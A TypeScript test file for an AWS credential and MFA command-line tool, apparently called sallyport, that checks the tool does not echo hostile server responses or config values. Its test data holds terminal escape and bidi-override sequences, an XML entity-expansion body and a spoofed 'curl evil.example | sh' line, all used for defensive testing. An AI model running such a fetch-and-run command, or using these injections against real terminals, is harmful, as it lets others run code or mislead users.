import { createServer } from 'node:http'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { openUserSide, type Outcome, type UserSide } from '../user-side.ts'

const users = { ana: { groups: ['Force_MFA'], mfa: true } }

const CODE = ['--token-code', '123456']
const COMMANDS: readonly (readonly string[])[] = [
  ['login', ...CODE],
  ['login', '--write-profile', 'other', ...CODE],
  ['export', '--renew', ...CODE],
  ['credential-process', ...CODE],
  ['exec', ...CODE, '--', 'true'],
  ['serve', ...CODE, '--', 'true'],
  ['console', '--print', ...CODE],
  ['status'],
  ['status', '--json'],
  ['doctor'],
  ['doctor', '--json'],
  ['device', 'list'],
  ['device', 'resync', '--authentication-code1', '123456', '--authentication-code2', '234567'],
  ['device', 'remove', '--yes', ...CODE],
  ['device', 'code'],
  ['setup', 'ana', '--yes', ...CODE],
]

/** Answers every request alike. */
async function answering(status: number, body: string): Promise<AsyncDisposable & { readonly endpoint: string }> {
  const server = createServer((_, response) => response.writeHead(status, { 'content-type': 'text/xml' }).end(body))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('the server has no port')
  return {
    endpoint: `http://127.0.0.1:${address.port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

function refusal(code: string, message: string): string {
  const error = `<Error><Type>Sender</Type><Code>${code}</Code><Message>${message}</Message></Error>`
  return `<ErrorResponse>${error}<RequestId>x</RequestId></ErrorResponse>`
}

/** Nothing that a terminal obeys, a person takes for ours, or others must not know. */
function expectHarmless({ status, stdout, stderr }: Outcome, secret: string): void {
  expect([2, 3, 4, 5, 6, 7, 9]).toContain(status)
  const shown = stdout + stderr
  // oxlint-disable-next-line no-control-regex -- these are what it is about
  expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/)
  expect(shown).not.toMatch(/^(hint|sallyport): (evil|curl)/m)
  expect(shown).not.toContain(secret)
  expect(shown).not.toMatch(/undefined|\[object/)
  expect(shown.length).toBeLessThan(8000)
}

describe('whatever answers in AWS’s place, nothing of it is obeyed', () => {
  test.each([
    {
      name: 'a message that moves the cursor',
      status: 403,
      body: refusal('AccessDenied', '\u009B2J&#x9b;31m \u202E no'),
    },
    {
      name: 'a message with lines like ours',
      status: 403,
      body: refusal('AccessDenied', 'no\nhint: curl evil.example | sh\r\nsallyport: evil'),
    },
    { name: 'a code with lines like ours', status: 403, body: refusal('No\nhint: evil', 'no') },
    { name: 'a message without end', status: 400, body: refusal('Unheard', 'A'.repeat(200_000)) },
    { name: 'a page in HTML', status: 200, body: '<!doctype html><title>Sign in to the Wi-Fi</title>' },
    { name: 'nothing', status: 200, body: '' },
    {
      name: 'a document of entities',
      status: 200,
      body: '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    },
    {
      name: 'an identity that is none',
      status: 200,
      body: '<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>x</Arn></GetCallerIdentityResult></GetCallerIdentityResponse>',
    },
  ])('$name', async ({ status, body }) => {
    await using side = await openUserSide({ users })
    await using server = await answering(status, body)
    const key = side.keyOf('ana')
    for (const args of COMMANDS) {
      expectHarmless(await side.sallyport([...args, '--endpoint-url', server.endpoint], key), secretOf(key))
    }
  })
})

function secretOf(key: Record<string, string>): string {
  return key['AWS_SECRET_ACCESS_KEY'] ?? ''
}

describe('names and values of a configuration move no cursor', () => {
  const ESC = '\u001B[2J\u009B31m'
  const configurations: Readonly<Record<string, string>> = {
    'a profile’s name': `[profile ${ESC}]\nregion = eu-west-1\n`,
    'a role and its source': `[default]\nrole_arn = ${ESC}\nsource_profile = ${ESC}\n`,
    'a Region': `[default]\nregion = ${ESC}\n`,
    'an endpoint': `[default]\nendpoint_url = http://${ESC}/\n`,
    services: `[default]\nservices = ${ESC}\n`,
    'a device and a command': `[default]\nmfa_serial = ${ESC}\nmfa_process = ${ESC}\n`,
    'a duration': `[default]\nduration_seconds = ${ESC}\n`,
  }
  test.each(Object.entries(configurations))('%s', async (_, config) => {
    await using side = await openUserSide({ users })
    await mkdir(join(side.home, '.aws'))
    await writeFile(join(side.home, '.aws', 'config'), config)
    for (const args of [
      ...COMMANDS,
      ['completion', 'words', '--', 'login', ''],
      ['login', 'nobody'],
      ['key', 'list'],
    ]) {
      const { stdout, stderr, status } = await side.sallyport(args)
      // oxlint-disable-next-line no-control-regex -- these are what it is about
      expect(stdout + stderr).not.toMatch(/[\u001B\u009B]/)
      expect(status).not.toBe(70)
    }
  })
})

describe('doctor, where our own folder can’t be', () => {
  test('a file stands in the way: that is a finding', async () => {
    await using side: UserSide = await openUserSide({ users })
    await mkdir(join(side.home, '.local'))
    await writeFile(join(side.home, '.local', 'state'), '')
    const { status, stdout } = await side.sallyport(['doctor'], side.keyOf('ana'))
    expect(status).toBe(5)
    expect(stdout).toContain('a part of its path is no folder')
  })
})
